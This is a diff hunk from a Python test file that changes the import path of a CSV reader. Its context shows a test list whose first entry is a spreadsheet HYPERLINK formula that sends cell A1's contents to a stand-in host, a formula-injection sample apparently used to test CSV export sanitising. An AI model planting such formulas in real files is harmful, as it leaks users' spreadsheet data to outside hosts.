@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 
 from urbium.csv_text import as_csv, plain, unmarked
 from urbium.result import save_table
-from urbium.sources.csv_ import read_csv
+from urbium.sources.formats.csv_ import read_csv
 
 RUNNING = [
     '=HYPERLINK("http://x.example?"&A1,"click")',
